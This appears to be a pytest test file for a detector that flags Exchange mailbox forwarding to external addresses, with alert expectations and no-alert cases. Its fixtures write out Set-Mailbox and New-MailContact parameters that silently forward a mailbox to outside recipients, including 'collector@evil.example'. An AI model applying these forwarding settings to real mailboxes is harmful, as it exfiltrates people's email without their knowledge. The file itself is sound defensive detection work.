"""Mailbox forwarding (Set-Mailbox) to outside addresses, directly or through a new mail contact."""

from __future__ import annotations

from typing import Any

import pytest
from records import (
    SYSTEM_ACCOUNT,
    TEST_TENANT,
    VPN_NL,
    at,
    exchange_cmdlet,
    expected_alert,
    identity_enricher,
)

from detectors.exchange_mailbox_forwarding import ExchangeMailboxForwarding
from shared.detection.testing import run_detector
from shared.tenant_config import TenantConfig

TENANT = TenantConfig(tenant_id=TEST_TENANT, internal_domains=["contoso.com"])
ALICE = "alice@contoso.com"
ADMIN = "it.admin@contoso.com"
HOME = "198.51.100.10"


def run(records: list[dict[str, Any]], tenant: TenantConfig = TENANT) -> list[dict[str, Any]]:
    got = run_detector(ExchangeMailboxForwarding, records, tenant=tenant, enricher=identity_enricher())
    assert got.quarantined == []
    return [a.to_dict() for a in got.alerts]


def test_forward_to_gmail_without_a_copy_from_a_vpn_is_critical() -> None:
    change = exchange_cmdlet(
        "Set-Mailbox",
        {
            "Identity": ALICE,
            "ForwardingSmtpAddress": "smtp:alice.finance@gmail.com",
            "DeliverToMailboxAndForward": "False",
        },
        ALICE,
        when=at(minutes=5),
        ip=VPN_NL,
        object_id="alice",
    )
    assert run([change]) == [
        expected_alert(
            ExchangeMailboxForwarding,
            records=[change],
            severity="critical",
            summary=f"{ALICE} set mailbox forwarding on {ALICE} to alice.finance@gmail.com from a vpn address "
            "without keeping a copy in the mailbox",
            dedup_key=f"{ALICE}|alice.finance@gmail.com",
            user_key=ALICE,
            ip=VPN_NL,
            context={
                "mailbox": ALICE,
                "destinations": ["alice.finance@gmail.com"],
                "parameters": ["forwardingsmtpaddress"],
                "deliver_to_mailbox_and_forward": False,
                "actor": ALICE,
                "risk": {"source": "ip", "reason": "vpn", "ip": VPN_NL},
            },
        )
    ]


def test_forward_through_a_new_external_mail_contact_parameters_as_string() -> None:
    contact = exchange_cmdlet(
        "New-MailContact",
        {"Name": "Ext Backup", "ExternalEmailAddress": "SMTP:collector@evil.example"},
        ADMIN,
        when=at(minutes=0),
        params_as_string=True,
    )
    change = exchange_cmdlet(
        "Set-Mailbox",
        {"Identity": "bob", "ForwardingAddress": "Ext Backup"},
        ADMIN,
        when=at(minutes=2),
        params_as_string=True,
    )
    assert run([contact, change]) == [
        expected_alert(
            ExchangeMailboxForwarding,
            records=[change],
            severity="high",
            summary=f"{ADMIN} set mailbox forwarding on bob to collector@evil.example",
            dedup_key="bob|collector@evil.example",
            user_key=ADMIN,
            ip=HOME,
            context={
                "mailbox": "bob",
                "destinations": ["collector@evil.example"],
                "parameters": ["forwardingaddress"],
                "deliver_to_mailbox_and_forward": None,
                "actor": ADMIN,
                "risk": None,
            },
        )
    ]


@pytest.mark.parametrize(
    ("records", "tenant"),
    [
        pytest.param(
            [exchange_cmdlet("Set-Mailbox", {"Identity": ALICE, "ForwardingSmtpAddress": ""}, ADMIN)],
            TENANT,
            id="removal-empty",
        ),
        pytest.param(
            [
                exchange_cmdlet(
                    "Set-Mailbox", {"Identity": ALICE, "ForwardingSmtpAddress": "$null", "ForwardingAddress": ""}, ADMIN
                )
            ],
            TENANT,
            id="removal-null",
        ),
        pytest.param(
            [
                exchange_cmdlet(
                    "Set-Mailbox", {"Identity": ALICE, "ForwardingSmtpAddress": "smtp:bob@contoso.com"}, ADMIN
                )
            ],
            TENANT,
            id="internal-target",
        ),
        pytest.param(
            [
                exchange_cmdlet(
                    "Set-Mailbox", {"Identity": ALICE, "ForwardingSmtpAddress": "smtp:bob@contoso.com"}, ADMIN
                )
            ],
            TenantConfig(tenant_id=TEST_TENANT),
            id="internal-target-without-configured-domains",
        ),
        pytest.param(
            [exchange_cmdlet("Set-Mailbox", {"Identity": ALICE, "ForwardingAddress": "Bob Jones"}, ADMIN)],
            TENANT,
            id="forward-to-an-internal-recipient-name",
        ),
        pytest.param(
            [
                exchange_cmdlet(
                    "Set-Mailbox",
                    {"Identity": ALICE, "ForwardingSmtpAddress": "smtp:journal@archive.example"},
                    SYSTEM_ACCOUNT,
                    user_id=SYSTEM_ACCOUNT,
                )
            ],
            TENANT,
            id="exchange-system-account",
        ),
        pytest.param(
            [
                exchange_cmdlet(
                    "Set-Mailbox",
                    {"Identity": ALICE, "ForwardingSmtpAddress": "smtp:journal@archive.example"},
                    SYSTEM_ACCOUNT,
                    user_id="nt authority\\system (microsoft.exchange.servicehost)",
                )
            ],
            TENANT,
            id="exchange-system-account-lower-case",
        ),
        pytest.param(
            [
                exchange_cmdlet(
                    "Set-Mailbox",
                    {"Identity": ALICE, "ForwardingSmtpAddress": "smtp:x@gmail.com"},
                    ADMIN,
                    result="False",
                )
            ],
            TENANT,
            id="failed-cmdlet",
        ),
        pytest.param(
            [exchange_cmdlet("Set-Mailbox", {"Identity": ALICE, "RetainDeletedItemsFor": "30.00:00:00"}, ADMIN)],
            TENANT,
            id="unrelated-set-mailbox",
        ),
        pytest.param(
            [
                exchange_cmdlet(
                    "Set-Mailbox",
                    {"Identity": ALICE, "ForwardingSmtpAddress": "smtp:alice@partner.example"},
                    ADMIN,
                )
            ],
            TenantConfig(
                tenant_id=TEST_TENANT, internal_domains=["contoso.com"], approved_forwarding_domains=["partner.example"]
            ),
            id="approved-destination",
        ),
    ],
)
def test_no_alert(records: list[dict[str, Any]], tenant: TenantConfig) -> None:
    assert run(records, tenant) == []


def test_ipv6_client_ip_with_port_is_normalised() -> None:
    change = exchange_cmdlet(
        "Set-Mailbox", {"Identity": ALICE, "ForwardingSmtpAddress": "smtp:x@gmail.com"}, ADMIN, ip="2001:db8::5"
    )
    assert change["ClientIP"] == "[2001:db8::5]:50000"
    assert [(a["ip"], a["severity"]) for a in run([change])] == [("2001:db8::5", "high")]
